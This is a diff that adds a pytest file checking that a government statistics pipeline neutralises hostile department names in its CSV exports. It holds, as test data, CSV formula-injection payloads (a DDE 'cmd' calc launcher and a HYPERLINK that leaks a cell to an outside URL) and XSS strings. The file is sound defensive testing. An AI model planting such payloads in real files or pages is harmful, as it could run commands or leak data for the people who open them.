@@ -1,0 +1,95 @@
+"""Hostile department names (formulas, markup, links, mathtext) through every CSV and page.
+
+The names are those an adversarial run used: spreadsheet formulas that run a command or leak a
+cell (``=cmd|…``, ``=HYPERLINK(…)``), HTML that runs script (``<script>``, ``<img onerror>``),
+``javascript:`` links and matplotlib mathtext (``$x$``).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+import builders
+from govstats.build.store import csv_bytes, neutral_cell, processed_files
+from govstats.month import analyse
+from govstats.ingest.table import read_table
+
+FORMULAS = (
+    '=HYPERLINK("http://x/?"&A1,"点击")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1)",
+)
+MARKUP = (
+    "<script>alert('x')</script>区局",
+    '<img src=x onerror="alert(1)">',
+    "javascript:alert(1)",
+    "$x$ 区局",
+    r"$\frac{1}{0$",
+)
+HOSTILE = FORMULAS + MARKUP
+CSV_FILES = ("departments.csv", "department_indicators.csv", "ledger.csv", "published_totals.csv",
+             "indicators.csv")
+
+
+def hostile_rows(sample_rows: list[list[str]]) -> list[list[str]]:
+    """The sample table with its first department names replaced by hostile ones."""
+    rows = [list(r) for r in sample_rows]
+    for row, name in zip(rows[2:], HOSTILE):
+        row[2] = name
+    return rows
+
+
+@pytest.fixture(scope="module")
+def hostile_table(tmp_path_factory, sample_rows) -> Path:
+    return builders.write_csv(tmp_path_factory.mktemp("hostile") / "table.csv", hostile_rows(sample_rows),
+                              "utf-8")
+
+
+@pytest.fixture(scope="module")
+def hostile_analysis(hostile_table, profile, registry):
+    return analyse(read_table(hostile_table, profile), profile, registry, district="qijiang",
+                   district_name="綦江区", month="2020-07")
+
+
+def csv_cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+
+
+def test_neutral_cell_quotes_formula_text_and_leaves_numbers():
+    for text in ("=1+1", "+1+1", "-1+1", "@x", "\tx", "\rx", "-", "=", "-abc"):
+        assert neutral_cell(text) == "'" + text
+    for value in ("-12", "+3.5", "-1,234", "-5%", "-.5", "区公安局", "", 12, -3.5, None):
+        assert neutral_cell(value) == value
+
+
+def test_csv_bytes_neutralises_text_and_keeps_numbers_and_the_input():
+    frame = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "区局", "\tx"], "n": [-1, 2, -3],
+                          "x": [-1.5, 0.0, 2.5]})
+    before = frame.copy()
+    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
+    assert rows[1:] == [["'=cmd|' /C calc'!A0", "-1", "-1.5"], ["区局", "2", "0.0"], ["'\tx", "-3", "2.5"]]
+    pd.testing.assert_frame_equal(frame, before)
+
+
+def test_no_csv_for_people_holds_a_formula_and_parquet_and_json_keep_the_names(hostile_analysis):
+    files = processed_files(hostile_analysis)
+    names = hostile_analysis.table.departments["published_name"].tolist()
+    formulas = [n for n in names if n.startswith(("=", "+", "-", "@"))]
+    assert len(formulas) == len(FORMULAS), "the hostile names reach the month table as published"
+    for name in CSV_FILES:
+        cells = csv_cells(files[name])
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
+        assert not [c for c in cells if c.startswith("-") and neutral_cell(c) != c], name
+    assert {"'" + f for f in formulas} <= set(csv_cells(files["departments.csv"]))
+    assert {"'" + f for f in formulas} <= set(csv_cells(files["department_indicators.csv"]))
+    assert [c for c in csv_cells(files["ledger.csv"]) if c.startswith("'=")], "the ledger names them too"
+    parquet = pd.read_parquet(io.BytesIO(files["departments.parquet"]))
+    assert parquet["published_name"].tolist() == names
+    assert "'=" not in files["ledger.json"].decode("utf-8")
